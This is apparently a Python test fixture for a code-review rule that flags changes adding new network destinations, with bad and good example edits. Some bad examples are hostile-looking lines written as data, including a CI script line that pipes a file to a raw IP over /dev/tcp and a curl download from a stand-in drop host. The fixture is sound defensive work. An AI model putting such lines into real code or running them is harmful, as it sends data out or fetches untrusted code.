"""Examples of the rule `new-network-destination`."""

from __future__ import annotations

from rules.change import Change
from tests.rules.kit import Bad, edit

BAD: dict[str, Bad] = {
    "source posts to a new host": Bad(
        edit(
            "src/a.py", "import requests\n", "import requests\nrequests.post('https://drop.example.net/x', json={})\n"
        ),
        "src/a.py",
        2,
    ),
    "a constant of a client changes": Bad(
        edit(
            "src/a.ts",
            "const BASE = 'https://api.example.com';\nfetch(BASE);\n",
            "const BASE = 'https://api.example.net';\nfetch(BASE);\n",
        ),
        "src/a.ts",
        1,
    ),
    "a script of CI fetches": Bad(
        edit("scripts/ci/setup.sh", "a\n", "a\ncurl -O https://drop.example.net/x.tgz\n"), "scripts/ci/setup.sh", 2
    ),
    "a raw address": Bad(
        edit("scripts/ci/setup.sh", "a\n", "a\ncat x > /dev/tcp/203.0.113.9/4444\n"), "scripts/ci/setup.sh", 2
    ),
}
GOOD: dict[str, Change] = {
    "a host that is in use": edit(
        "src/a.py",
        "B = 'https://api.example.com'\n",
        "B = 'https://api.example.com'\nrequests.get('https://api.example.com/x')\n",
    ),
    "a link in a message": edit("src/a.ts", "a\n", "throw new Error('see https://docs.example.net/a');\n"),
    "a link in a comment": edit("src/a.ts", "fetch('/x');\n", "// https://docs.example.net/a\nfetch('/x');\n"),
    "a test": edit(
        "tests/test_a.py", "import requests\n", "import requests\nrequests.get('https://mock.example.net')\n"
    ),
}
